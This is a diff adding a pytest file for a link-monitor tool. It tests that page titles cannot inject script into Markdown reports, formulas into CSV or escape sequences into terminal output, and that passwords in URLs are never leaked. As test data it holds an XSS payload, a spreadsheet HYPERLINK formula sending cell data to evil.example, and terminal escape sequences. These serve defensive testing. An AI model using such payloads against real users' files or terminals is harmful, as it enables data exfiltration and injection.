@@ -1,0 +1,114 @@
+"""Issue 16: what pages written by others must not do to the monitor's outputs or send in
+its name. Every case through the real command line against the local world."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+from tests.world import World
+
+SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt; &lt;svg onload=alert(2)&gt;"
+FORMULA = '=HYPERLINK("http://evil.example/?x="&amp;A1,"click")'
+ESCAPES = "Report \x1b]0;owned\x07 and \x1b[2J cleared"
+
+
+def cli(tmp_path: Path, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess:
+    env = {k: v for k, v in os.environ.items() if not k.startswith("MONITOR_")}
+    env |= {
+        "MONITOR_DATABASE__URL": f"sqlite:///{tmp_path / 'm.sqlite'}",
+        "MONITOR_ALLOW_NETWORKS": "127.0.0.0/8",
+        "MONITOR_REPORT__DIR": str(tmp_path / "reports"),
+        "MONITOR_ARCHIVE__ENDPOINTS": "[]",
+    }
+    return subprocess.run(
+        [sys.executable, "-m", "monitor", "--config", os.devnull, *args],
+        env=env, capture_output=True, text=True, timeout=120, input=stdin,
+    )  # fmt: skip
+
+
+def _page(world: World, tmp_path: Path) -> Path:
+    world.pages["/cred"] = (200, "<title>A page behind a password</title><p>Members.</p>", {})
+    host = world.base.removeprefix("http://")
+    rows = [
+        (world.url("/missing-a"), SCRIPT),
+        (world.url("/missing-b"), FORMULA),
+        (world.url("/missing-c"), ESCAPES),
+        (f"http://alice:s3cret@{host}/cred", "A page behind a password"),
+    ]
+    page = tmp_path / "page.html"
+    page.write_text(
+        "<html><body>"
+        + "".join(
+            f'<p><a href="{u}">{t}</a><br>Publisher, 2005<br>[accessed 16 February 2011]</p>'
+            for u, t in rows
+        )
+        + "</body></html>",
+        "utf-8",
+    )
+    return page
+
+
+def test_titles_from_pages_cannot_script_format_or_command(world: World, tmp_path: Path) -> None:
+    page = _page(world, tmp_path)
+    assert cli(tmp_path, "ingest", str(page)).returncode == 0
+    assert cli(tmp_path, "run").returncode in (0, 1)
+    # H: Markdown passes raw HTML to the reader's browser
+    (tmp_path / "r").mkdir()
+    assert cli(tmp_path, "report", "--format", "all", "--out", str(tmp_path / "r")).returncode == 0
+    md = "\n".join(p.read_text() for p in (tmp_path / "r").glob("*.md"))
+    assert "<script" not in md.lower() and "<svg" not in md.lower()
+    assert "&lt;script&gt;" in md  # shown, as text
+    # I: a spreadsheet runs cells that start with = + - @
+    cells = []
+    for f in (tmp_path / "r").glob("*.csv"):
+        cells += [c for row in csv.reader(io.StringIO(f.read_text())) for c in row]
+    checked = cli(tmp_path, "check", str(page), "--format", "csv").stdout
+    cells += [c for row in csv.reader(io.StringIO(checked)) for c in row]
+    assert cells and not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    assert any(c.startswith("'=HYPERLINK") for c in cells)
+    # J: a terminal obeys escape sequences
+    status = cli(tmp_path, "status")
+    assert status.returncode == 0 and "\x1b" not in status.stdout + status.stderr
+    assert "owned" in status.stdout  # the words are shown, the commands are not
+
+
+def test_a_password_in_a_cited_link_is_never_sent_nor_printed(
+    world: World, tmp_path: Path
+) -> None:
+    page = _page(world, tmp_path)
+    outputs = [cli(tmp_path, "ingest", str(page)), cli(tmp_path, "run")]
+    outputs += [
+        cli(tmp_path, "status"),
+        cli(tmp_path, "status", "--format", "json"),
+        cli(tmp_path, "check", str(page), "--format", "json"),
+        cli(tmp_path, "report", "--format", "md"),
+        cli(tmp_path, "export", "-"),
+    ]
+    assert world.hits["/cred"] >= 1 and world.authorizations == []  # fetched, no Basic auth
+    for r in outputs:
+        assert "s3cret" not in r.stdout + r.stderr, r.args
+    rows = json.loads(outputs[4].stdout)
+    cred = next(r for r in rows if r["url"].endswith("/cred"))
+    assert cred["url"] == world.url("/cred") and cred["verdict"] == "alive"
+    assert "user name and password" in outputs[2].stdout
+
+
+def test_malformed_hosts_and_ipv6_literals_are_counted_not_lost(tmp_path: Path) -> None:
+    page = tmp_path / "refs.txt"
+    page.write_text(
+        "1. Report one. http://[2001:db8::1]/report.html [accessed 16 February 2011]\n"
+        "2. Report two. http://a..b.example/x [accessed 16 February 2011]\n"
+        "3. Report three. http://c.example/y [accessed 16 February 2011]\n"
+    )
+    r = cli(tmp_path, "ingest", str(page))
+    assert r.returncode == 0, r.stderr
+    assert "skipped 1 link(s): host name with an empty label" in r.stdout + r.stderr
+    status = cli(tmp_path, "status", "--format", "json").stdout
+    urls = {row["url"] for row in json.loads(status)}
+    assert "http://[2001:db8::1]/report.html" in urls and "http://a.b.example/x" not in urls
